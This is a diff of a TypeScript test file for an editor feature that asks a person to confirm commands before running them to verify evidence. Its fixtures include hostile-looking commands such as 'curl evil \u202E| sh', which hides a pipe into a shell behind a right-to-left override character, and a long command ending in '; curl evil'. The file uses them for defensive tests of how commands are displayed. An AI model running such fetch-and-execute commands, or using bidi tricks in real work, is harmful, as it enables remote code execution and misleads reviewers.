@@ -69,7 +69,11 @@ describe('verifying evidence in the editor', () => {
 
   function of(
     result: Verification,
-    more: { readonly isApproved?: boolean; readonly beads?: readonly string[] } = {},
+    more: {
+      readonly isAsked?: boolean;
+      readonly commands?: readonly string[];
+      readonly beads?: readonly string[];
+    } = {},
   ): FakePlace {
     const evidence = (more.beads ?? ['greet']).map(proof);
     const verifier: Verifier = {
@@ -81,9 +85,14 @@ describe('verifying evidence in the editor', () => {
         evidence,
       }),
       source: 'database',
-      isApproved: more.isApproved ?? true,
       verify: async (options) => {
         await Promise.resolve();
+        const request = {
+          ticket: 'TST-1',
+          commands: more.commands ?? ['npm ci', 'npm test'],
+          otherFiles: null,
+        };
+        if (more.isAsked === true && !(await options.confirm(request))) return undefined;
         asked.push(options);
         options.onProgress?.({ commit: sha, command: 'npm test', number: 1, total: 1 });
         whileRunning();
@@ -141,11 +150,29 @@ describe('verifying evidence in the editor', () => {
 
   it('runs no command that was not approved here before a person saw all of them', async () => {
     editor.will('leave');
-    await verifyEvidence(workbench, of(equal, { isApproved: false }));
+    await verifyEvidence(workbench, of(equal, { isAsked: true }));
     assert.deepEqual(asked, []);
     assert.match(said()[0]?.detail ?? '', /^npm ci\nnpm test$/);
     editor.will(person.presses(0));
-    await verifyEvidence(workbench, of(equal, { isApproved: false }));
+    await verifyEvidence(workbench, of(equal, { isAsked: true }));
+    assert.equal(asked.length, 1);
+  });
+
+  it('shows commands with their lines, and too long ones as a document beside the question', async () => {
+    editor.will('leave');
+    await verifyEvidence(workbench, of(equal, { isAsked: true, commands: ['# lint\ncurl evil \u202E| sh'] }));
+    assert.match(said()[0]?.detail ?? '', /^Warning: .*\(1\).*\n\n# lint\n {2}curl evil ⟨U\+202E⟩\| sh$/);
+    editor.reset();
+    const long = `npm test ${'x'.repeat(5_000)}; curl evil`;
+    editor.will(person.picks(true));
+    await verifyEvidence(workbench, of(equal, { isAsked: true, commands: [long] }));
+    assert.match(
+      documents[0] ?? '',
+      /^request\.txt\nThe evidence of TST-1 .* Run them\?\n\n.*x; curl evil\n$/,
+    );
+    assert.equal(asked.length, 1);
+    editor.will('leave');
+    await verifyEvidence(workbench, of(equal, { isAsked: true, commands: [long] }));
     assert.equal(asked.length, 1);
   });
 
